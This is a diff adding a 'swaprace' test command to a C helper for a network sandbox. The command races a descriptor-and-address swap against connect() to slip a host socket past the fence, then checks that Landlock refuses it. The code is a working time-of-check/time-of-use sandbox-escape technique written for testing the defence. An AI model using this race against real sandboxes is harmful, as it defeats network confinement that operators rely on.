@@ -30,6 +30,7 @@
 #include <sys/wait.h>
 #include <netinet/in.h>
 #include <poll.h>
+#include <pthread.h>
 #include <arpa/inet.h>
 #include <dirent.h>
 #include <netdb.h>
@@ -457,6 +458,89 @@ static int cmd_tfo(const char *host, const char *port, const char *fhost, const 
 			break;
 	}
 	return reached(s, n < 0 ? -1 : 0, e, true);
+}
+
+/* swaprace HOST PORT FHOST FPORT TRIES: the one gap of the fence that
+ * Landlock closes (kernel/netfence.c, top).  A connect with a non-INET
+ * address on a socket of the sandbox is CONTINUE'd: the kernel runs it
+ * afresh, reading the fd number and the address again.  A second thread
+ * swaps, in a loop, (the sandbox's UDP socket, family AF_UNIX) for (a
+ * host TCP socket, family AF_INET HOST:PORT) under the number and in the
+ * address: when the fence saw the first pair and the kernel runs the
+ * second, the host socket connects to HOST:PORT, wherever that is, unless
+ * Landlock (no TCP connect right) refuses it: EACCES, which nothing else
+ * on this path answers.  The host socket is the one a failed non-blocking
+ * connect to FHOST:FPORT (allowed, nothing listening) leaves behind.
+ * Prints "ESCAPED ..." (then the HTTP exchange's OK) or "HELD EACCES n of
+ * TRIES" (n: the races won that Landlock refused; 0 means the race was
+ * never won and the run shows nothing). */
+struct swap_ctl {
+	int num, sandbox, host;
+	struct sockaddr_in *addr;
+	volatile int stop;
+};
+
+static void *swap_loop(void *arg)
+{
+	struct swap_ctl *c = arg;
+	unsigned i = 0;
+	volatile unsigned k;
+
+	while (!c->stop) {
+		dup2(c->sandbox, c->num);
+		c->addr->sin_family = AF_UNIX;
+		for (k = 0; k < (i % 64) * 16; k++)
+			;
+		dup2(c->host, c->num);
+		c->addr->sin_family = AF_INET;
+		for (k = 0; k < (i % 64) * 16; k++)
+			;
+		i++;
+	}
+	return NULL;
+}
+
+static int cmd_swaprace(const char *host, const char *port, const char *fhost, const char *fport, int tries)
+{
+	static struct sockaddr_in a;
+	struct sockaddr_in f, peer;
+	socklen_t pl = sizeof(peer);
+	struct swap_ctl c = {.addr = &a};
+	pthread_t th;
+	int e, t, eacces = 0;
+
+	if (sin_of(&a, host, port) < 0 || sin_of(&f, fhost, fport) < 0)
+		return 3;
+	c.host = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+	c.sandbox = socket(AF_INET, SOCK_DGRAM, 0);
+	if (c.host < 0 || c.sandbox < 0 || (c.num = dup(c.sandbox)) < 0)
+		return result(-1);
+	e = connect(c.host, (struct sockaddr *)&f, sizeof(f)) == 0 ? 0 : errno;
+	if (e == EINPROGRESS)
+		e = connect_result(c.host);
+	if (e != ECONNREFUSED) {
+		printf("SETUP first connect: %s\n", e > 0 ? errname(e) : e < 0 ? "timeout" : "connected");
+		return 3;
+	}
+	if (pthread_create(&th, NULL, swap_loop, &c) != 0)
+		return result(-1);
+	for (t = 0; t < tries; t++) {
+		e = connect(c.num, (struct sockaddr *)&a, sizeof(a)) == 0 ? 0 : errno;
+		eacces += e == EACCES;
+		if (getpeername(c.host, (struct sockaddr *)&peer, &pl) == 0)
+			break;
+	}
+	c.stop = 1;
+	pthread_join(th, NULL);
+	if (t < tries) {
+		int fl = fcntl(c.host, F_GETFL);
+		printf("ESCAPED after %d tries: ", t + 1);
+		if (fl < 0 || fcntl(c.host, F_SETFL, fl & ~O_NONBLOCK) < 0 || connect_result(c.host) != 0)
+			return result(-1);
+		return reached(c.host, 0, 0, false);
+	}
+	printf("HELD EACCES %d of %d\n", eacces, tries);
+	return 1;
 }
 
 /* Connect a socket to HOST (this must work), then try DHOST:
@@ -1163,6 +1247,8 @@ int main(int argc, char **argv)
 		return cmd_inet(SOCK_DGRAM, argv[2], argv[3]);
 	if (!strcmp(c, "tcpnb") && argc > 3)
 		return cmd_tcpnb(argv[2], argv[3]);
+	if (!strcmp(c, "swaprace") && argc > 6)
+		return cmd_swaprace(argv[2], argv[3], argv[4], argv[5], atoi(argv[6]));
 	if (!strcmp(c, "tfo") && argc > 3)
 		return cmd_tfo(argv[2], argv[3], argc > 5 ? argv[4] : NULL, argc > 5 ? argv[5] : NULL);
 	if (!strcmp(c, "unspec") && argc > 5)
